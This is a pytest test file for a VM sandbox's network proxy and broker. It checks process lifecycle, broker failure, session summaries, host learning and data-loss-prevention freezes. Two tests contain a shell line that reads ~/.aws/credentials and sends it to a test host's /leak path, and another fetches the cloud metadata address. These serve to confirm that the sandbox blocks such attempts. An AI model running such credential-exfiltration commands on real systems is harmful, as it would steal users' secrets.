"""Sessions with a network from their start to their end: the keeper, a broker that dies, what is said at the end."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from harness import Cli, Guest, ended, wait_for
from netted import FETCH, broker_of, fetch, keeper_of, named, row
from rooted import RootedGuest
from upstream import Upstream

from vmsandbox.session.network.keeper import keeper_is_alive


@pytest.fixture
def started(netcli: Cli, netted_project: Path) -> Iterator[Callable[..., RootedGuest]]:
    made: list[RootedGuest] = []

    def make(*words: str | Path) -> RootedGuest:
        made.append(RootedGuest(netcli, f"p-{os.urandom(4).hex()}"))
        netcli("start", *(words or named(netted_project)), "--name", made[-1].name)
        return made[-1]

    yield make
    for guest in made:
        guest.stop()


def test_a_policy_that_lies_in_the_project_gets_nothing_of_the_host(netcli: Cli, netted_project: Path) -> None:
    done = netcli("session", netted_project, "--", "true", status=126)
    assert b"network.secrets[0]: " in done.stderr and b".addresses: 127.0.0." in done.stderr
    assert b"--policy " in done.stderr and b"starting guest" not in done.stderr


def test_start_leaves_a_keeper_and_stop_ends_all(started: Callable[..., RootedGuest], upstream: Upstream) -> None:
    guest = started()
    keeper = keeper_of(guest)
    broker = broker_of(keeper)
    assert os.getsid(keeper) == keeper, "a hangup of the terminal would reach it"
    os.kill(keeper, signal.SIGHUP)
    assert fetch(guest, f"https://allowed.test:{upstream.port}/echo")[0] == "200"
    assert row(guest)["network"] == "proxy"
    record = guest.folder.record_folder(guest.info.id)
    guest.stop()
    for pid in (keeper, broker):
        assert not Path(f"/proc/{pid}/exe").exists(), "it runs"
    kinds = [json.loads(line)["kind"] for line in (record / "events.jsonl").read_bytes().splitlines()]
    assert kinds[-3:] == ["egress.closed", "baseline.proven", "session.closed"]


def test_a_keeper_ends_with_its_guest(started: Callable[..., RootedGuest]) -> None:
    guest = started()
    keeper = keeper_of(guest)
    os.kill(guest.qemu, signal.SIGKILL)
    wait_for(lambda: not Path(f"/proc/{keeper}/exe").exists(), timeout=20)


def test_without_its_broker_a_guest_reaches_nothing(started: Callable[..., RootedGuest], upstream: Upstream) -> None:
    guest = started()
    keeper = keeper_of(guest)
    os.kill(broker_of(keeper), signal.SIGKILL)
    wait_for(lambda: keeper_is_alive(guest.folder) is False, timeout=20)
    assert fetch(guest, f"https://allowed.test:{upstream.port}/echo")[0] == "failed"
    assert row(guest)["network"] == "proxy (gone)"
    broken = [entry["data"] for entry in guest.journal() if entry["kind"] == "egress.broken"]
    assert len(broken) == 1 and "ended" in broken[0]["reason"]
    assert guest.exec("echo", "goes on").stdout == b"goes on\n"


def test_a_session_says_at_once_that_its_broker_is_gone(netcli: Cli, netted_project: Path) -> None:
    script = 'echo up; read line; timeout 20 python3 -c "$1" http://allowed.test/; echo $line'
    session = netcli.start(
        "session", *named(netted_project), "--", "sh", "-c", script, "sh", FETCH, stdin=subprocess.PIPE
    )
    try:
        assert session.stdout is not None and session.stdin is not None
        assert session.stdout.readline() == b"up\n"
        os.kill(broker_of(session.pid), signal.SIGKILL)
        time.sleep(1)
        session.stdin.write(b"goes on\n")
        session.stdin.flush()
    finally:
        status, out, err = ended(session)
    assert status == 0
    assert out.startswith(b"failed") and out.endswith(b"goes on\n"), "it hung, or got through"
    assert b"the broker has ended" in err


def test_a_killed_session_takes_its_broker_along_and_gc_the_rest(netcli: Cli, netted_project: Path) -> None:
    command = ("session", *named(netted_project), "--name", "killed", "--", "sh", "-c", "echo up; sleep 100")
    session = netcli.start(*command)
    assert session.stdout is not None
    assert session.stdout.readline() == b"up\n"
    broker = broker_of(session.pid)
    os.kill(session.pid, signal.SIGKILL)
    ended(session)
    wait_for(lambda: not Path(f"/proc/{broker}/exe").exists(), timeout=5)
    assert (netcli.layout.run / "killed.net").exists()
    assert b"removed session killed" in netcli("gc").stdout
    assert not (netcli.layout.run / "killed.net").exists()


def test_a_session_ends_with_a_summary(netcli: Cli, netted_project: Path, upstream: Upstream) -> None:
    script = f'python3 -c "$1" https://allowed.test:{upstream.port}/sum; python3 -c "$1" http://no.test/'
    report = netcli.json("session", *named(netted_project), "--", "sh", "-c", script, "sh", FETCH)
    network = report["network"]
    assert network["mode"] == "proxy"
    assert [use["host"] for use in network["reached"]] == ["allowed.test"]
    assert [use["host"] for use in network["refused"]] == ["no.test"]
    done = netcli("session", *named(netted_project), "--", "python3", "-c", FETCH, "http://no.test/")
    assert b"no.test" in done.stderr and b"to allow it" in done.stderr


def test_learning_lets_a_hosts_name_through_and_nothing_else(netcli: Cli, netted_project: Path) -> None:
    """No traffic leaves this machine: the name has no address, which is the next thing that is looked at."""
    script = 'python3 -c "$1" http://learned.test/a; python3 -c "$1" http://169.254.169.254/'
    report = netcli.json("session", *named(netted_project), "--learn", "--", "sh", "-c", script, "sh", FETCH)
    [unknown, private] = report["network"]["refused"]
    assert unknown["host"] == "learned.test" and unknown["failed"] == 1 and unknown["refusals"] == []
    assert private["host"] == "169.254.169.254" and private["refusals"]
    assert report["network"]["learned"] == ""


def test_an_alert_freezes_where_the_policy_says_so(netcli: Cli, upstream: Upstream, tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(upstream.policy("dlp: {freeze: true}"))
    script = f'python3 -c "$1" https://allowed.test:{upstream.port}/leak "BODY=$(cat ~/.aws/credentials)"; echo after'
    session = netcli.start(
        "session", "--empty", "--policy", policy, "--name", "icy", "--", "sh", "-c", script, "sh", FETCH
    )
    try:
        wait_for(lambda: (netcli.layout.live / "icy/frozen").exists(), timeout=60)
        assert row(RootedGuest(netcli, "icy"))["state"] == "frozen"
        time.sleep(1)
        assert session.poll() is None
        netcli("thaw", "icy")
    finally:
        status, out, err = ended(session)
    assert status == 0 and out.endswith(b"after\n")
    assert b"FROZEN" in err and b"vmsandbox thaw icy" in err
    assert upstream.of("/leak") == []


def test_an_alert_freezes_the_guest_that_a_rollback_brought(netcli: Cli, upstream: Upstream, tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(upstream.policy("dlp: {freeze: true}"))
    netcli("start", "--empty", "--policy", policy, "--name", "thin-ice")
    guest = RootedGuest(netcli, "thin-ice")
    try:
        echo = f"https://allowed.test:{upstream.port}/echo"
        for _ in range(2):  # the one that was frozen before does not count any more
            netcli("rollback", "thin-ice")
            wait_for(lambda: fetch(guest, echo)[0] == "200", timeout=30, every=0.5)
            script = f'python3 -c "$1" https://allowed.test:{upstream.port}/leak "BODY=$(cat ~/.aws/credentials)"'
            leak = netcli.start("exec", "thin-ice", "--", "sh", "-c", script, "sh", FETCH)
            wait_for(lambda: (guest.folder.path / "frozen").exists(), timeout=60)
            assert row(guest)["state"] == "frozen"
            leak.kill()
            leak.communicate()
    finally:
        guest.stop()
    assert upstream.of("/leak") == []


def test_none_has_nothing_of_it(guest: Guest, tmp_path: Path) -> None:
    assert guest.sh("env | grep -ci -e proxy -e _ca -e cert; true") == "0"
    assert guest.sh("ls /etc/pip.conf /etc/npmrc /usr/local/share/ca-certificates/* ~/.aws 2>/dev/null; true") == ""
    config = tmp_path / "config"
    config.write_bytes(guest.cli("ssh-config", guest.name).stdout)
    forward = ["ssh", "-F", str(config), "-o", "ExitOnForwardFailure=yes", "-R", "127.0.0.1:3128:127.0.0.1:9"]
    command = [*forward, f"vmsandbox-{guest.name}", "true"]
    done = subprocess.run(command, capture_output=True, timeout=60, env=guest.cli.environment)
    assert done.returncode == 255


def test_a_policy_without_a_network_is_not_overruled(cli: Cli, tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text("sandbox: {network: {mode: none}}\n")
    done = cli("session", "--empty", "--policy", policy, "--net", "proxy", "--", "true", status=126)
    assert b"the policy allows network mode 'none'" in done.stderr
